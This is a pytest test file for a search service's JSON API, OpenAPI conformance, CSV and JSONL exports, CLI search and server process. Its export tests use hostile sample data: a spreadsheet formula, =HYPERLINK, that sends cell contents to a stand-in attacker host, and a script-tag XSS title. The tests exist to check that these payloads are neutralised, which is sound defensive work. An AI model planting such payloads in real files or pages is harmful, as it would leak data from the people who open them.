"""The JSON API's other routes, its error shape, the OpenAPI document, exports, the CLI's
`search`, and `serve` as a real server."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import time
import urllib.error
import urllib.request
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from conftest import SAMPLE_POSTS, Searchsvc, assert_error, run_cli, running_server
from jsonschema import Draft202012Validator
from openapi_spec_validator import validate
from referencing import Registry, Resource

# OpenAPI


@pytest.fixture(scope="module")
def spec(client):
    document = client.get("/api/openapi.json").get_json()
    validate(document)  # a valid OpenAPI 3.1 document
    return document


def check(spec, response, status: int):
    """Validate a real response against the schema the document gives for it."""
    operation = None
    path = response.request.path
    for template, item in spec["paths"].items():
        pattern = template.replace("{post_id}", "[^/]+")
        if re.fullmatch(pattern, path):
            operation = item["get"]
    assert operation is not None, path
    content = operation["responses"][str(status)]["content"]["application/json"]["schema"]
    registry = Registry().with_resource("urn:spec", Resource.from_contents(
        {**spec, "$schema": "https://json-schema.org/draft/2020-12/schema"}))
    schema = {"$schema": "https://json-schema.org/draft/2020-12/schema", **content}
    schema = json.loads(json.dumps(schema).replace('"#/components', '"urn:spec#/components'))
    Draft202012Validator(schema, registry=registry).validate(response.get_json())


@pytest.mark.parametrize("url, status", [
    ("/api/search?q=uyghur", 200),
    ("/api/search?q=marathn", 200),
    ("/api/search?from=2020&to=2020&sort=oldest&per_page=2&page=2", 200),
    ("/api/search?q=%22open", 400),
    ("/api/search?from=nonsense", 400),
    ("/api/posts/syn-run", 200),
    ("/api/posts/syn-run?q=running", 200),
    ("/api/posts/nope", 404),
    ("/api/posts/syn-run/similar", 200),
    ("/api/posts/nope/similar", 404),
    ("/healthz", 200),
])
def test_responses_match_the_openapi_document(client, spec, url, status):
    response = client.get(url)
    assert response.status_code == status
    check(spec, response, status)


def test_every_route_is_documented(client, spec):
    routes = {rule.rule.replace("<post_id>", "{post_id}") for rule in client.application.url_map.iter_rules()
              if rule.endpoint.startswith("api.")}
    assert routes == set(spec["paths"])


# Posts, similar, health, errors


def test_post_whole_and_highlighted(client):
    post = client.get("/api/posts/syn-run").get_json()
    assert post == {"id": "syn-run", "title": "Marathon notes", "date": "2019-05-01", "author": "Ada Fictional",
                    "url": None, "body": "We run every morning along the river."}
    highlighted = client.get("/api/posts/syn-run?q=running").get_json()
    assert highlighted["body_highlighted"] == "We <mark>run</mark> every morning along the river."
    assert highlighted["title_highlighted"] == "Marathon notes"


def test_similar_posts(client):
    similar = client.get("/api/posts/syn-undated-1/similar").get_json()
    assert similar["id"] == "syn-undated-1"
    assert similar["similar"][0]["id"] == "syn-undated-2"
    assert "syn-undated-1" not in [h["id"] for h in similar["similar"]]


def test_unknown_post_and_route_are_404(client):
    assert_error(client.get("/api/posts/nope"), 404, "not_found", None, "no post with id 'nope'")
    assert_error(client.get("/api/nothing-here"), 404, "not_found", None, "no such page or API route")
    response = client.post("/api/search")
    assert_error(response, 405, "method_not_allowed")


def test_cors_allows_any_origin(client):
    response = client.get("/api/search?q=run", headers={"Origin": "https://example.org"})
    assert response.headers["Access-Control-Allow-Origin"] == "*"
    assert "X-Searchsvc-Count" in response.headers["Access-Control-Expose-Headers"]


def test_healthz(client):
    health = client.get("/healthz").get_json()
    commit, committed = health.pop("commit"), health.pop("committed")
    assert health == {"status": "ok", "posts": 13, "generation": "g000001", "schema_version": 6}
    assert re.fullmatch(r"[0-9a-f]{16}", commit)
    now = datetime.now(timezone.utc).replace(tzinfo=None)
    assert abs(datetime.strptime(committed, "%Y-%m-%dT%H:%M:%SZ") - now) < timedelta(hours=1)
    # Every search names the commit that answered it.
    assert client.get("/api/search?q=run").get_json()["commit"] == commit


@pytest.mark.slow  # three ingests in processes of their own
def test_each_commit_has_its_own_id_and_time(tmp_path, client_for):
    index = tmp_path / "index"
    first = tmp_path / "first.jsonl"
    first.write_text(json.dumps({"id": "c1", "title": "One", "body": "A synthetic post."}) + "\n", encoding="utf-8")
    assert run_cli("ingest", "--index", str(index), str(first)).returncode == 0
    client = client_for(index)
    before = client.get("/healthz").get_json()
    assert run_cli("ingest", "--index", str(index), str(first)).returncode == 0  # unchanged: no commit
    assert client.get("/healthz").get_json() == before
    second = tmp_path / "second.jsonl"
    second.write_text(json.dumps({"id": "c2", "title": "Two", "body": "Another synthetic post."}) + "\n",
                      encoding="utf-8")
    assert run_cli("ingest", "--index", str(index), str(second)).returncode == 0
    after = client.get("/healthz").get_json()
    assert (after["posts"], after["generation"]) == (2, before["generation"])
    assert after["commit"] != before["commit"] and after["committed"] >= before["committed"]


def test_missing_and_outdated_index_are_503(tmp_path, client_for):
    client = client_for(tmp_path / "none")
    assert_error(client.get("/healthz"), 503, "index_missing")
    assert_error(client.get("/api/search?q=x"), 503, "index_missing")
    Searchsvc(tmp_path / "old")("ingest", SAMPLE_POSTS / "posts")
    marker = tmp_path / "old" / "searchsvc-index.json"
    marker.write_text(json.dumps({**json.loads(marker.read_text()), "schema_version": 1}))
    client = client_for(tmp_path / "old")
    message = assert_error(client.get("/healthz"), 503, "index_version")
    assert "rebuild it with `searchsvc ingest --rebuild PATH...`" in message


# Export


def test_export_csv_streams_every_match_with_provenance(client):
    response = client.get("/api/export?q=pamphlet&format=csv&sort=oldest")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="searchsvc-pamphlet-')
    assert response.headers["Content-Disposition"].endswith('.csv"')
    assert response.headers["X-Searchsvc-Count"] == "3"
    assert json.loads(response.headers["X-Searchsvc-Query"]) == "pamphlet"
    assert json.loads(response.headers["X-Searchsvc-Filters"]) == {"from": None, "to": None, "author": [],
                                                                   "sort": "oldest"}
    assert response.headers["X-Searchsvc-Index-Version"] == "schema 6, g000001"
    assert response.headers["X-Searchsvc-Commit"] == client.get("/healthz").get_json()["commit"]
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text[1:])))
    assert [r["id"] for r in rows] == ["syn-hostile", "syn-undated-1", "syn-undated-2"]
    assert rows[0]["title"] == "<script>alert('title')</script> & friends"  # data, not HTML
    assert rows[0]["body"].startswith("Hostile body <img")


HOSTILE_CSV_POST = {"id": "@syn-formula", "title": '=HYPERLINK("http://evil.example/?"&A1,"x")',
                    "date": "2019-05-01", "author": "+Mallory Fictional", "url": "https://example.org/fictional?=1",
                    "body": "-2 degrees, a synthetic body.\n=SUM(A1:A9)"}


def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(tmp_path, client_for):
    posts = tmp_path / "p.jsonl"
    posts.write_text(json.dumps(HOSTILE_CSV_POST) + "\n", encoding="utf-8")
    assert Searchsvc(tmp_path / "index")("ingest", posts).exit_code == 0
    client = client_for(tmp_path / "index")
    text = client.get("/api/export?format=csv").get_data(as_text=True)
    assert list(csv.reader(io.StringIO(text[1:]))) == [
        ["id", "title", "date", "author", "url", "score", "body"],
        ["'@syn-formula", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "2019-05-01", "'+Mallory Fictional",
         "https://example.org/fictional?=1", "", "'-2 degrees, a synthetic body.\n=SUM(A1:A9)"],
    ]
    # JSON Lines is data for programs, not spreadsheets: it stays exactly as ingested.
    [line] = client.get("/api/export?format=jsonl").get_data(as_text=True).splitlines()
    assert json.loads(line) == {**HOSTILE_CSV_POST, "score": None}


@pytest.mark.parametrize("cell, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("x=1", "x=1"), ("'=1", "'=1"), ("", ""),
])
def test_spreadsheet_safe_follows_owasp(cell, written):
    """Tab and carriage return cannot start a stored title, author, body, url or id (ingest strips
    them), so they are checked here directly."""
    from searchsvc.web.exports import spreadsheet_safe

    assert spreadsheet_safe(cell) == written


def test_export_jsonl_has_no_page_limit_and_reingests(client, tmp_path):
    response = client.get("/api/export?format=jsonl")
    lines = response.get_data(as_text=True).splitlines()
    assert len(lines) == 13 == int(response.headers["X-Searchsvc-Count"])
    first = json.loads(lines[0])
    assert first["id"] == "syn-start-2021" and first["score"] is None
    exported = tmp_path / "export.jsonl"
    exported.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = Searchsvc(tmp_path / "copy")("ingest", exported)
    assert result.stdout == "Read 1 file: 13 new, 0 updated, 0 unchanged, 0 invalid, 0 skipped files\n"


def test_export_of_an_empty_window_and_bad_format(client):
    response = client.get("/api/export?from=1999&to=1999")
    assert (response.status_code, response.get_data(as_text=True), response.headers["X-Searchsvc-Count"]) == (
        200, "", "0")
    assert_error(client.get("/api/export?format=xlsx"), 400, "bad_format", "format",
                 "'format' must be csv or jsonl, got 'xlsx'")


# CLI search


def test_cli_search_json_is_the_api_json(client, search_index):
    runner = Searchsvc(search_index)
    result = runner("search", "uighur OR pamphlet", "--from", "2019", "--sort", "oldest", "--per-page", "3", "--json")
    assert result.exit_code == 0, result.output
    cli_json = json.loads(result.stdout)
    api_json = client.get("/api/search?q=uighur+OR+pamphlet&from=2019&sort=oldest&per_page=3").get_json()
    cli_json.pop("took_ms"), api_json.pop("took_ms")
    assert cli_json == api_json


def test_cli_search_text_and_errors(search_index):
    runner = Searchsvc(search_index)
    result = runner("search", "running")
    assert result.exit_code == 0
    assert result.stdout.splitlines()[0].startswith(
        '1 post matches "running" (understood as: run), page 1 of 1, sorted by relevance, ')
    lines = result.stdout.splitlines()
    assert lines[2] == "1. Marathon notes"
    assert re.fullmatch(r"   2019-05-01 · Ada Fictional · id syn-run · score \d+\.\d\d", lines[3])
    assert lines[4] == "   We run every morning along the river."
    bad = runner("search", "--from", "2021-13-45")
    assert bad.exit_code == 1
    assert bad.stderr == "Error: 'from': invalid date '2021-13-45': month must be in 1..12\n"
    assert runner("search", '"open').stderr == 'Error: the query has an opening " without a closing one\n'


@pytest.mark.parametrize("option, value", [("--to", "9999"), ("--to", "9999-12-31"), ("--from", "9999")])
def test_cli_search_refuses_years_past_9998(search_index, option, value):
    result = Searchsvc(search_index)("search", option, value)
    assert result.exit_code == 1
    assert result.stderr == f"Error: '{option[2:]}': invalid date '{value}': the latest year allowed is 9998\n"


# serve


def _get(url: str) -> tuple[int, dict]:
    try:
        with urllib.request.urlopen(url, timeout=10) as response:
            return response.status, json.loads(response.read())
    except urllib.error.HTTPError as e:
        with e:
            return e.code, json.loads(e.read())


@pytest.mark.slow  # real processes: kept out of the fast tier, run by CI
def test_serve_answers_over_http_and_sees_new_posts_without_restart(tmp_path):
    index = tmp_path / "index"
    assert Searchsvc(index)("ingest", SAMPLE_POSTS / "posts").exit_code == 0
    env = {**os.environ, "SEARCHSVC_INDEX": str(index)}
    with running_server(index, tmp_path / "server.log") as base:
        status, health = _get(base + "/healthz")
        assert (status, health["posts"]) == (200, 4)
        status, body = _get(base + "/api/search?q=uyghur")
        assert (status, body["total"]) == (200, 4)
        assert _get(base + "/api/search?from=bad")[0] == 400

        new_post = tmp_path / "new.jsonl"
        new_post.write_text(json.dumps({"id": "fresh", "title": "Fresh synthetic zeppelin post",
                                        "body": "A zeppelin, written by a fictional author.",
                                        "author": "Zed Fictional"}) + "\n", encoding="utf-8")
        ingest = subprocess.run([sys.executable, "-m", "searchsvc", "ingest", str(new_post)], env=env,
                                capture_output=True, text=True, timeout=120)
        assert ingest.returncode == 0, ingest.stderr
        committed = time.monotonic()
        # Both workers must see it: ask several times, within a second of the commit.
        seen = [_get(base + "/api/search?q=zeppelin")[1]["total"] for _ in range(6)]
        assert time.monotonic() - committed < 1.0
        assert seen == [1] * 6
        # No server software or version leaks, on a page, the API and an error.
        for path in ("/healthz", "/", "/api/search?q=uyghur"):
            with urllib.request.urlopen(base + path, timeout=10) as response:
                assert response.headers.get_all("Server") == ["searchsvc"], path
        with pytest.raises(urllib.error.HTTPError) as missing:
            urllib.request.urlopen(base + "/nowhere", timeout=10)
        assert missing.value.headers.get_all("Server") == ["searchsvc"]
        missing.value.close()


def test_serve_refuses_a_missing_index(tmp_path):
    result = subprocess.run([sys.executable, "-m", "searchsvc", "serve", "--index", str(tmp_path / "none")],
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 1
    assert result.stderr == f"Error: no index at {tmp_path / 'none'}: create one with `searchsvc ingest PATH...`\n"


def test_readme_mentions_search_and_serve():
    readme = (Path(__file__).parent.parent / "README.md").read_text(encoding="utf-8")
    assert "searchsvc search" in readme and "searchsvc serve" in readme
